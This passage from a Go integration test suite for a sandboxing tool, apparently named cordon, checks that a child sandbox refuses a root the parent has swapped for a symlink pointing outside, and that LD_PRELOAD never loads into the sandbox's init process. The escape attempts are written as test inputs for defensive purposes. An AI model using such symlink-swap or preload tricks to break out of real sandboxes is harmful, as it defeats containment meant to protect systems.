	child, err := spec.Derive(parent, &spec.Worker{Name: "w", Sandbox: &spec.WorkerRequest{Restrict: "src"}}, 5)
	if err != nil {
		t.Fatal(err)
	}
	if out := run(t, parent, "", sh("mv src src2 && ln -s "+outside+" src")...); out.res.ExitCode != 0 {
		t.Fatalf("parent swap: %+v", out.res)
	}
	out = run(t, child, "", sh("echo planted > planted-by-child")...)
	if out.res.FailureType != runner.FailureSetupError {
		t.Fatalf("the child's swapped root must be refused: %+v", out.res)
	}
	mustNotExist(t, filepath.Join(outside, "planted-by-child"))
}

// TestIntegrationLoaderEnvSkipsInit: LD_PRELOAD reaches the command but is
// never applied to cordon's PID 1, which must not load foreign code before
// its seccomp filter. The loader reports a preload it cannot find once per
// process that tries: exactly once means only the command tried.
func TestIntegrationLoaderEnvSkipsInit(t *testing.T) {
	sb := newSandbox(t)
	sb.Env.Set = map[string]string{"LD_PRELOAD": "/nonexistent-cordon-preload.so"}
	out := run(t, sb, "", "/bin/true")
	if out.res.ExitCode != 0 {
		t.Fatalf("run: %+v", out.res)
	}
	if n := strings.Count(out.stderr, "nonexistent-cordon-preload.so"); n != 1 {
		t.Fatalf("the loader tried the preload in %d processes, want 1 (the command only): %q", n, out.stderr)
	}
}
